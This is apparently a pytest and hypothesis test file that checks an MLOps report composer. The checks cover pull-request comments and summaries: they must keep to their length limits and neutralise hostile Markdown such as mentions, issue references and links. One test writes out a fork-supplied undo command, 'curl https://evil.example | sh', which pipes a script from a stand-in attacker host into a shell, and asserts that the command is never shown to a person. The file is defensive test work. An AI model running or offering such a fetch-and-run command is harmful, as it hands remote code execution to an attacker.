"""Results of a fork hold anything: the report stays one text of its own, within its limits."""

from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from mlops.environments.markdown import words
from mlops.errors import Problem
from mlops.report.compose import SUMMARY_LIMIT, Report, compose
from mlops.report.fitting import LIMIT
from mlops.specs.decision import Comparison
from mlops.specs.evidence import Drift, GateResult, Interval, SliceMetrics
from mlops.specs.result import (
    PARTS,
    ContractDifference,
    ContractResult,
    DatasetResult,
    EnvironmentResult,
    Fact,
    ModelResult,
    Rendered,
    Result,
    Told,
)
from tests.report.markdown_rules import ACTIVE, HOSTILE, check_safe, tokens_of
from tests.report.results import (
    BASE,
    HEAD,
    comparison,
    contract,
    dataset,
    model,
    paired,
    plan_of,
    result,
)

ODD = "`|\\<>&@#[]()!*_~:$\n\r -+1.agGHw/\u202e"
TEXT = (
    st.just(HOSTILE)
    | st.text(alphabet=ODD, max_size=40)
    | st.text(max_size=30).filter(lambda text: text.isprintable())
    | st.sampled_from(["", " ", "x" * 4_000, "`" * 4_000, "<" * 4_000, "@a " * 1_000, "\n" * 4_000])
)
TIMES = st.sampled_from([0, 1, 2, 40, 200])
NUMBER = st.sampled_from([0.0, -0.25, 1e-300, 1e300, -1e300, 3.0])


@st.composite
def hostile_results(draw: st.DrawFn) -> list[Result]:
    """One result of each part; in each field that takes a text stands a hostile one."""

    def text() -> str:
        return draw(TEXT)[:4_000]

    def gate() -> GateResult:
        return GateResult(gate=text(), passed=draw(st.booleans()), detail=text())

    def measured() -> ModelResult:
        one = model()
        compared: Comparison = comparison(metric=text()).model_copy(
            update={name: draw(NUMBER) for name in ("champion_value", "difference", "low", "high")}
        )
        update: dict[str, Any] = {
            "metrics": {text(): Interval(value=1.0, low=0.0, high=draw(NUMBER))},
            "slices": (SliceMetrics(column=text(), value=text(), rows=1, metrics={text(): 1.0}),)
            * draw(TIMES),
            "drift": (Drift(column=text(), statistic=draw(NUMBER)),) * draw(TIMES),
        }
        return one.model_copy(
            update={
                "evidence": one.evidence.model_copy(update=update),
                "comparisons": (compared,) * draw(TIMES),
                "paired": (paired(text(), text(), text()),) * draw(TIMES),
                "gates": (gate(),) * draw(TIMES),
            }
        )

    def changed() -> ContractResult:
        differing = ContractDifference(
            path=text(), kind="removal", text=text(), breaking=draw(st.booleans())
        )
        return contract().model_copy(update={"differences": (differing,) * draw(TIMES)})

    def there() -> EnvironmentResult:
        diff = draw(TEXT) * draw(st.sampled_from([1, 40]))
        return EnvironmentResult(
            kind=text(),
            facts=(Fact(name=text(), text=text(), good=draw(st.booleans())),) * draw(TIMES),
            differences=(text(),) * draw(TIMES),
            rendered=(Rendered(path=text(), diff=diff[:200_000], lines=3),) * draw(TIMES),
            undo=(text(),) * draw(TIMES),
        )

    data: DatasetResult = dataset(failed=1).model_copy(update={"broken": (text(),) * draw(TIMES)})
    told = Told(path=text(), what=text(), fix=text())
    return [
        result(
            part,
            outcome=draw(st.sampled_from(["good", "not good", "not evaluated"])),
            summary=text(),
            problems=(told,) * draw(TIMES),
            checks=(gate(),) * draw(TIMES),
            models=(measured(),) * draw(TIMES) if part == "models" else (),
            contracts=(changed(),) * draw(TIMES) if part == "contracts" else (),
            datasets=(data,) * draw(TIMES) if part == "contracts" else (),
            environment=there() if part == "environments" else None,
        )
        for part in PARTS
    ]


def composed(results: list[Result], **more: Any) -> Report:
    return compose(plan_of(results), results, base=BASE, head=HEAD, **more)


@pytest.mark.slow
# Not shrunk: that takes minutes, and the assertion's line says what was found.
@settings(
    max_examples=10,
    deadline=None,
    phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
)
@given(hostile_results(), st.booleans())
def test_whatever_comes_in_the_texts_are_safe_and_within_their_limits(
    results: list[Result], fork: bool
) -> None:
    odd = [Problem(HOSTILE, HOSTILE, HOSTILE)]
    made = composed(results, refused=odd, ignored=odd * 30, fork=fork)
    assert len(made.comment) <= LIMIT
    assert len(made.summary.encode()) <= SUMMARY_LIMIT
    check_safe(made.comment)
    check_safe(made.summary)
    assert made.comment.startswith("**Not good: ")


@example("@``octocat #` `12")
@given(TEXT)
def test_prose_makes_nothing_of_its_own_and_stays_in_its_line(text: str) -> None:
    told = f"- before {words(text)} after"
    check_safe(told)
    assert "\n" not in told
    tokens = tokens_of(told)
    assert [token.type for token in tokens].count("inline") == 1
    kinds = {child.type for token in tokens for child in token.children or []}
    assert kinds <= {"text", "code_inline"}


@given(st.text(alphabet="ab `*_[]<>#!~&\\", max_size=30))
def test_prose_says_what_it_said(text: str) -> None:
    """Read as Markdown it gives the words again; code spans are code spans."""
    children = [child for token in tokens_of(f"x {words(text)}") for child in token.children or []]
    said = "".join(child.content for child in children).replace("\u2060", "")
    expected = " ".join(text.split())
    if expected.count("`") == 0:
        assert said == f"x {expected or '(empty)'}"


@pytest.mark.parametrize(
    "text",
    ["see @octocat", "fixes #12", "GH-1", "o/r#1", "https://evil.example", "www.evil.example",
     "a@evil.example", ":tada:", "$x$", "@``octocat", "#` `12"],
)  # fmt: skip
def test_prose_pings_nobody_and_refers_to_nothing(text: str) -> None:
    told = words(text)
    assert not ACTIVE.search(told.replace("\\", "").replace("&#36;", ""))
    assert "$" not in told


def test_commands_in_a_fix_stay_commands() -> None:
    assert words("run `mlops render` and commit it") == "run `mlops render` and commit it"


def test_a_forks_commands_are_never_offered_to_a_person() -> None:
    bad = EnvironmentResult(kind="rollback", undo=("curl https://evil.example | sh",))
    results = [result("environments", environment=bad)]
    told = composed(results, fork=True).comment
    assert "evil" not in told
    assert "made by code of a fork" in told
